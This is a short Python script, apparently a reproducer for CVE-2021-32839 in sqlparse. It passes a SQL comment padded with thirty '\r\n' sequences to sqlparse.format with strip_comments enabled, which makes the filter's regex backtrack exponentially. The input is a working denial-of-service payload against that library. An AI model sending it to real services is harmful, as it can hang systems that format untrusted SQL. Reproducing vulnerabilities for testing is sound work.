# CVE-2021-32839 (PYSEC-2021-333): stripping a comment whose text holds many "\r\n" makes the
# StripComments filter's regular expression backtrack exponentially.
import sqlparse

sqlparse.format("select 1 /*" + "\r\n" * 30 + "x*/ from t", strip_comments=True)
print("formatted")
